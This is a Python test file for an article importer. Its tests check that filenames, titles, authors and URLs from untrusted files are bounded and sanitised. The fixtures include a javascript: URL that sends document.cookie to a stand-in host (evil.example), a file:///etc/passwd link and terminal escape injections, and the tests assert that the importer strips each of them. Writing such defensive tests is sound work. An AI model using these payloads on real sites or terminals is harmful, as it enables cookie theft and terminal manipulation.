"""What a hostile file's name and details can do once imported: nothing a person would
not have typed. Names that are not UTF-8 still import; titles, authors and addresses are
bounded, one line, free of control characters; only http(s) addresses are kept."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from briefer.core.model import Article, Block, BlockKind
from briefer.importers.encoding import NOT_TEXT
from briefer.session import ImportStatus, Session, merge_project
from tests.private_store import store_of

PARAGRAPHS = [
    "The port authority of Velden confirmed on Tuesday that it will raise berth fees for"
    " container ships by eleven percent from March, the first increase in six years.",
    "Shipping lines that call at the port weekly said the rise would be passed on to"
    " importers within weeks, and that smaller firms would feel it first.",
    "The port council will vote on the schedule on 14 February; if it is approved, the"
    " new fees apply to all calls from the first of April.",
]


def page(title: str = "Velden fees rise", head: str = "", body_extra: str = "") -> str:
    body = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    return (
        f"<html><head><meta charset='utf-8'><title>{title}</title>{head}</head>"
        f"<body><article><h1>{title}</h1>{body_extra}{body}</article></body></html>"
    )


@pytest.fixture
def session(tmp_path: Path) -> Iterator[Session]:
    with Session.create(tmp_path / "work.briefer") as session:
        yield session


def _only(session: Session, path: Path) -> tuple[ImportStatus, str]:
    report = session.import_all([path])
    (outcome,) = report.outcomes
    return outcome.status, outcome.reason


def _article(session: Session):  # type: ignore[no-untyped-def]
    (summary,) = session.query.list_articles()
    return session.query.get_article(summary.id)


# -- 1. a name that is not UTF-8 -------------------------------------------------------


@pytest.fixture
def badname(tmp_path: Path) -> Path:
    """As a folder unzipped from Windows: one name in Latin-1 bytes between two good ones."""
    folder = tmp_path / "unzipped"
    folder.mkdir()
    (folder / "a_good.html").write_text(page("Velden fees rise"), encoding="utf-8")
    (folder / "z_good.html").write_text(page("Ostmark terminal grows"), encoding="utf-8")
    latin1 = os.path.join(os.fsencode(folder), b"m_Pr\xe4sentation.txt")
    with open(latin1, "wb") as out:
        out.write(b"Port fees rise\n\nThe port of Velden will raise its fees from March.\n")
    return folder


def test_a_name_that_is_not_utf8_is_imported_and_named_readably(
    session: Session, badname: Path
) -> None:
    report = session.import_all([badname])

    assert [o.status for o in report.outcomes] == [ImportStatus.IMPORTED] * 3
    names = [Path(o.source).name for o in report.outcomes]
    assert names == ["a_good.html", "m_Präsentation.txt", "z_good.html"]
    texts = {a.title: a for a in session.query.list_articles()}
    kept = session.query.get_article(texts["Port fees rise"].id)
    assert kept.source_name == "m_Präsentation.txt"
    assert "raise its fees from March" in kept.text
    original = store_of(session).get_original(kept.id)
    assert original is not None and original.filename == "m_Präsentation.txt"


def test_cli_imports_the_whole_batch_and_prints_the_name(tmp_path: Path, badname: Path) -> None:
    """Run as a user runs it: a real process writing UTF-8 to a pipe, where a raw
    surrogate would have stopped the batch (exit 70) before z_good.html."""
    project = tmp_path / "cli.briefer"
    home = ["--home", str(tmp_path / "home")]
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "LC_ALL": "C.UTF-8"}

    def briefer(*args: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "briefer", *home, *args]
        return subprocess.run(command, capture_output=True, text=True, env=env, timeout=120)

    assert briefer("new", str(project)).returncode == 0
    plain = briefer("import", str(project), str(badname))
    assert plain.returncode == 0, plain.stderr
    assert "m_Präsentation.txt" in plain.stdout and "3 imported" in plain.stdout
    as_json = briefer("import", str(project), str(badname), "--json")
    assert as_json.returncode == 0, as_json.stderr
    sources = [Path(r["source"]).name for r in json.loads(as_json.stdout)["results"]]
    assert sources == ["a_good.html", "m_Präsentation.txt", "z_good.html"]


# -- 2. bounds on the details ----------------------------------------------------------


def test_a_huge_title_is_cut_at_a_word_and_huge_names_and_addresses_are_left_out(
    session: Session, tmp_path: Path
) -> None:
    huge = tmp_path / "huge_meta.html"
    head = (
        f"<meta property='og:title' content='{'Velden ' * 80_000}'>"
        f"<meta name='author' content='{'Anna Groot ' * 5_000}'>"
        f"<meta property='og:site_name' content='{'Gazette ' * 5_000}'>"
        f"<link rel='canonical' href='https://example.org/{'a' * 1_000_000}'>"
    )
    huge.write_text(page("Velden fees rise", head), encoding="utf-8")

    assert _only(session, huge)[0] is ImportStatus.IMPORTED
    article = _article(session)
    assert len(article.title) <= 500 and article.title.endswith("Velden…")
    assert article.author == "" and article.url == ""
    assert len(article.publisher) <= 200
    assert len(article.text) < 2_000  # the title it opens with is the bounded one
    assert article.text.startswith(article.title)


def test_a_huge_subject_line_gives_a_bounded_title(session: Session, tmp_path: Path) -> None:
    mail = tmp_path / "huge_header.eml"
    mail.write_bytes(
        b"From: Anna Groot <anna@example.org>\r\nTo: desk@example.org\r\n"
        b"Subject: " + b"Velden " * 2_000 + b"\r\n"
        b"Date: Wed, 19 Nov 2025 09:12:00 +0100\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + " ".join(PARAGRAPHS).encode()
    )
    assert _only(session, mail)[0] is ImportStatus.IMPORTED
    title = session.query.list_articles()[0].title
    assert 100 < len(title) <= 500 and title.endswith("…")


# -- 3. only absolute http(s) addresses ------------------------------------------------


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        ("<link rel='canonical' href='javascript:fetch(\"https://evil.example/?\"+document.cookie)'>",
         ""),
        ("<link rel='canonical' href='file:///etc/passwd'>", ""),
        ("<link rel='canonical' href='/business/2025/11/18/velden-fees-rise'>", ""),
        ("<link rel='canonical' href='/business/2025/11/18/velden-fees-rise'>"
         "<meta property='og:url' content='https://www.coastaltimes.example/velden'>",
         "https://www.coastaltimes.example/business/2025/11/18/velden-fees-rise"),
        ("<link rel='canonical' href='javascript:void(0)'>"
         "<meta property='og:url' content='https://www.coastaltimes.example/velden'>",
         "https://www.coastaltimes.example/velden"),
    ],
)  # fmt: skip
def test_only_an_absolute_web_address_is_kept(
    session: Session, tmp_path: Path, head: str, expected: str
) -> None:
    source = tmp_path / "canonical.html"
    source.write_text(page(head=head), encoding="utf-8")
    assert _only(session, source)[0] is ImportStatus.IMPORTED
    assert _article(session).url == expected


# -- 4. control characters and junk ----------------------------------------------------


def test_control_characters_never_reach_the_text_or_the_details(
    session: Session, tmp_path: Path
) -> None:
    source = tmp_path / "control.html"
    head = "<meta name='author' content='Anna\x1b[31m Groot'>"
    extra = "<p>Berth fees\x08 rise\x1b[2J from Tues\x0bday, the \x9bauthority\x07 said.</p>"
    source.write_text(page("Velden\x1b]0;owned\x07 fees", head, extra), encoding="utf-8")

    assert _only(session, source)[0] is ImportStatus.IMPORTED
    article = _article(session)
    assert "Berth fees rise from Tues day, the authority said." in article.text
    for value in (article.text, article.title, article.author):
        assert not any((ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F for c in value)
    assert article.author == "Anna Groot"
    assert article.title == "Velden fees"


def test_random_bytes_named_html_are_refused_as_the_text_importer_refuses_them(
    session: Session, tmp_path: Path
) -> None:
    junk = bytes((i * 7919 + 13) % 255 + 1 for i in range(50_000))  # no NUL anywhere
    for suffix in (".html", ".txt"):
        source = tmp_path / f"junk{suffix}"
        source.write_bytes(junk)
        assert _only(session, source) == (ImportStatus.FAILED, NOT_TEXT)
    assert session.query.list_articles() == []


# -- 5. a merged project's articles ----------------------------------------------------


def test_a_merged_projects_articles_are_bounded_as_imports_are(
    session: Session, tmp_path: Path
) -> None:
    """Another project file is as untrusted as a page: its articles come in with the
    bounds an import gives, not with a crafted title, address or by-line."""
    other_path = tmp_path / "other.briefer"
    with Session.create(other_path) as other:
        crafted = Article(
            title="Velden\x1b]0;owned\x07 fees " + "rise " * 120_000,
            text=" ".join(PARAGRAPHS),
            blocks=(Block(BlockKind.PARAGRAPH, 0, len(" ".join(PARAGRAPHS))),),
            author="Anna\x1b[31m Groot " * 2_000,
            publisher="Coastal\nTimes",
            url="javascript:fetch('https://evil.example/?'+document.cookie)",
        )
        store_of(other).add_article(crafted, None)

    assert merge_project(session, other_path).articles_added == 1
    article = _article(session)
    assert article.title.startswith("Velden fees rise") and article.title.endswith("…")
    assert len(article.title) <= 500
    assert article.author == "" and article.url == ""
    assert article.publisher == "Coastal Times"
    assert article.text == " ".join(PARAGRAPHS)
